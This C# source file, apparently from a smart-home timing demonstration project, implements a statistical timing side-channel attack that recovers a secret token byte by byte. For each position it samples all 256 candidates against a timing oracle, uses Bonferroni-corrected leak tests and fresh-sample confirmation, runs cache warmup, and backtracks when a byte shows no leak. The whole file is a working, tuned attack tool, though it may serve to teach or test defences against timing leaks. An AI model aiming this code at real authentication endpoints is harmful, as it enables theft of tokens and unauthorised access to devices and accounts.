using System.Diagnostics;

namespace SmartHome.TimingDemo;

public sealed record RecoveryOptions
{
    /// <summary>Samples per candidate at the first look.</summary>
    public int InitialSamples { get; init; } = 8;

    /// <summary>Budget: samples per candidate per byte after which the byte is declared "no significant leak".</summary>
    public int MaxSamples { get; init; } = 2048;

    /// <summary>Samples per candidate grow by this factor between looks.</summary>
    public double Growth { get; init; } = 1.5;

    /// <summary>Family-wise error rate per byte (discovery), and the level of the fresh-sample confirmation.</summary>
    public double Alpha { get; init; } = 0.01;

    public Estimator Estimator { get; init; } = Estimator.Median;

    public int Seed { get; init; } = 1;

    /// <summary>Queries with random tokens before byte 0 so the JIT and caches settle.</summary>
    public int WarmupQueries { get; init; } = 20_000;

    /// <summary>Stop at the first byte without a significant leak (otherwise keep the best guess and go on).</summary>
    public bool StopOnFailure { get; init; } = true;

    /// <summary>
    /// Response-time technique: fraction of the pooled samples (fastest first) that orders the candidates; the slower rest
    /// is censored (tied). 1 keeps everything; over a loaded network the fast end carries the leak and the slow end the load.
    /// </summary>
    public double Keep { get; init; } = 1.0;

    /// <summary>How often, in one attack, a byte without a leak sends the attack back to re-decide the byte before it.</summary>
    public int MaxBacktracks { get; init; } = 1;

    /// <summary>Sample-size schedule of the looks: InitialSamples, x Growth, ..., MaxSamples.</summary>
    public IReadOnlyList<int> Schedule()
    {
        var list = new List<int>();
        double n = Math.Max(2, InitialSamples);
        while (true)
        {
            var k = (int)Math.Min(Math.Round(n), MaxSamples);
            if (list.Count == 0 || k > list[^1])
            {
                list.Add(k);
            }

            if (k >= MaxSamples)
            {
                return list;
            }

            n *= Math.Max(1.1, Growth);
        }
    }
}

/// <summary>What the attack concluded about one byte position.</summary>
/// <param name="BestEstimateNs">Response time: the best candidate's estimate in ns. Response order: the share of its races
/// it answered last (0..1); likewise runner-up and rest.</param>
/// <param name="OutOfTime">The time budget ended while this byte was being decided (nothing claimed for it).</param>
public sealed record ByteResult(
    int Position,
    bool Significant,
    byte Value,
    int SamplesPerCandidate,
    long Queries,
    double BestEstimateNs,
    double RunnerUpEstimateNs,
    double RestEstimateNs,
    double DiscoveryPValue,
    double DiscoveryThreshold,
    double ConfirmPValue,
    TimeSpan Elapsed,
    bool OutOfTime = false);

/// <param name="Bytes">Every decision in order, including a byte decided again after a backtrack.</param>
/// <param name="Recovered">The leading bytes decided with a significant leak (empty when byte 0 showed none).</param>
public sealed record RecoveryResult(
    IReadOnlyList<ByteResult> Bytes,
    byte[] Recovered,
    bool Complete,
    bool AcceptedByOracle,
    long TotalQueries,
    TimeSpan Elapsed)
{
    /// <summary>The attack stopped because its time budget was used up, not for lack of a leak.</summary>
    public bool OutOfTime { get; init; }
}

/// <summary>
/// Recovers a token byte by byte from response times alone. For each position: all 256 candidates
/// (known prefix + candidate + zero filler) are sampled round-robin in a freshly shuffled order per
/// round (cancels drift and order effects); at each look of the schedule the <see cref="LeakDetector"/>
/// ranks all samples together and tests the slowest candidate against the rest; a discovery is then confirmed
/// on fresh samples (best vs runner-up) before the byte is accepted. Uses nothing but <see cref="ITimingOracle.Query"/>'s time.
/// </summary>
public sealed class ByteRecoverer(ITimingOracle oracle, RecoveryOptions options) : PrefixRecoverer(options)
{
    private const int Candidates = 256;

    protected override int TokenLength => oracle.TokenLength;

    protected override long Warmup(Random rng)
    {
        var warm = new byte[oracle.TokenLength];
        for (var i = 0; i < Options.WarmupQueries; i++)
        {
            rng.NextBytes(warm);
            oracle.Query(warm);
        }

        return Options.WarmupQueries;
    }

    protected override bool Accepts(byte[] token) => oracle.Query(token).Accepted;

    protected override ByteResult DecideByte(byte[] known, int pos, Random rng)
    {
        var sw = Stopwatch.StartNew();
        var schedule = Options.Schedule();
        var threshold = LeakDetector.BonferroniThreshold(Options.Alpha, Candidates, schedule.Count);
        var samples = new List<double>[Candidates];
        for (var c = 0; c < Candidates; c++)
        {
            samples[c] = new List<double>(Options.MaxSamples);
        }

        // One buffer for every candidate: only guess[pos] changes, so no candidate gets a different
        // memory address or alignment (which would be a per-candidate timing difference of its own).
        var guess = new byte[known.Length];
        known.AsSpan(0, pos).CopyTo(guess); // filler after pos stays zero

        double Sample(int candidate)
        {
            guess[pos] = (byte)candidate;
            return oracle.Query(guess).ElapsedNs;
        }

        var order = Enumerable.Range(0, Candidates).ToArray();
        long queries = 0;
        Detection? last = null;
        var confirmP = double.NaN;
        var have = 0;
        var outOfTime = false;
        foreach (var target in schedule)
        {
            for (; have < target && !outOfTime; have++)
            {
                rng.Shuffle(order);
                foreach (var c in order)
                {
                    samples[c].Add(Sample(c));
                }

                queries += Candidates;
                CountQueries(Candidates);
                outOfTime = Budget.IsExhausted;
            }

            last = LeakDetector.Detect(samples, Options.Estimator, threshold, Options.Keep);
            Report();
            if (outOfTime)
            {
                break;
            }

            if (!last.Significant)
            {
                continue;
            }

            // Confirmation on fresh, independent samples: best vs runner-up, interleaved.
            var n = Math.Max(Options.InitialSamples, target);
            var bestFresh = new double[n];
            var runnerFresh = new double[n];
            for (var i = 0; i < n; i++)
            {
                if (rng.Next(2) == 0)
                {
                    bestFresh[i] = Sample(last.Best);
                    runnerFresh[i] = Sample(last.RunnerUp);
                }
                else
                {
                    runnerFresh[i] = Sample(last.RunnerUp);
                    bestFresh[i] = Sample(last.Best);
                }
            }

            queries += 2L * n;
            CountQueries(2L * n);
            confirmP = LeakDetector.Confirm(bestFresh, runnerFresh, Options.Keep).PValue;
            if (confirmP < Options.Alpha)
            {
                TimingMetrics.SamplesPerByte.Record(have);
                return new ByteResult(pos, true, (byte)last.Best, have, queries, last.BestEstimate,
                    last.RunnerUpEstimate, last.RestEstimate, last.Test.PValue, threshold, confirmP, sw.Elapsed);
            }
        }

        TimingMetrics.SamplesPerByte.Record(have);
        var d = last!;
        return new ByteResult(pos, false, (byte)d.Best, have, queries, d.BestEstimate, d.RunnerUpEstimate,
            d.RestEstimate, d.Test.PValue, threshold, confirmP, sw.Elapsed, outOfTime);
    }
}
